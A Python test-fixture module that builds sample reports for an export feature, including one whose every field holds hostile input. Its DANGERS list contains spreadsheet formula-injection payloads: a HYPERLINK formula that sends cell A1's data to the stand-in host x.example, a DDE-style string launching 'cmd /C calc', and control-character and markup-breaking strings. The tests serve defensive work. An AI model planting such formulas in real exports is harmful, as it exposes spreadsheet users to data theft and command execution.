"""Reports to export: with every field, with what staff typed, with words that are out for mischief."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

from handlers.texts import Texts
from reports import read_report
from reports.edits import UNPLACED
from reports.model import Deadline, DeadlineKind, Figure, Finding, Report, Span, Target, Task
from storage.reports import StoredReport
from tests.dialogs.stage import text_named
from tests.storage.examples import FULL, span

NOW = datetime(2026, 10, 20, 8, 0, tzinfo=timezone(timedelta(hours=7)))
TEXTS = Texts("vi")


def typed(text: str) -> Span:
    """What staff typed: it stands nowhere in the text."""
    return Span(UNPLACED, UNPLACED, text)


def stored(report: Report, number: int = 12) -> StoredReport:
    return StoredReport(number, report, "telegram:7", NOW)


def sample(name: str, number: int = 12) -> StoredReport:
    """A sample of the program, read as it reads it."""
    return stored(read_report(text_named(name)), number)


STATED = stored(FULL)
MENDED = stored(
    replace(
        FULL,
        place=typed("Nhà văn hóa ấp 2"),
        tasks=(
            replace(
                FULL.tasks[1],
                assignee=typed("Phòng Tư pháp"),
                deadline=Deadline(typed("trước 30/4"), DeadlineKind.FIXED, date(2026, 4, 30)),
            ),
            Task(
                3, typed("Báo cáo kết quả"), deadline=Deadline(span("tháng 02/2026"), DeadlineKind.RECURRING)
            ),
            Task(
                5,
                span("trồng 40 ha"),
                deadline=Deadline(typed("10 ngày kể từ ngày ký"), DeadlineKind.RELATIVE),
            ),
        ),
        limitations=(Finding(UNPLACED, UNPLACED, "Thiếu cán bộ", 4),),
    )
)
DANGERS = (
    '=HYPERLINK("http://x.example/?"&A1,"mở")',
    "+84 lô đất",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a\x00b\x0b\x1f\ufffec",
    "_x000D_<b>&amp;]]>",
    "x" * 40_000,
)


def dangerous() -> StoredReport:
    """A report whose every word is out for mischief."""
    source = "\n".join(DANGERS)
    places = [(at := source.index(text), at + len(text)) for text in DANGERS]
    spans = [Span.cut(source, start, end) for start, end in places]
    return stored(
        Report(
            source,
            title=spans[0],
            number=spans[1],
            organisation=spans[2],
            participants=tuple(spans),
            targets=tuple(
                Target(s, actual=Figure(s, Decimal("1.5"), unit=s.text), ordinal=n)
                for n, s in enumerate(spans, 1)
            ),
            tasks=tuple(
                Task(n, s, s, (s,), Deadline(s, DeadlineKind.FIXED, date(2026, 3, 1)))
                for n, s in enumerate(spans, 1)
            ),
            limitations=tuple(Finding(s.start, s.end, s.text, n) for n, s in enumerate(spans, 1)),
        )
    )
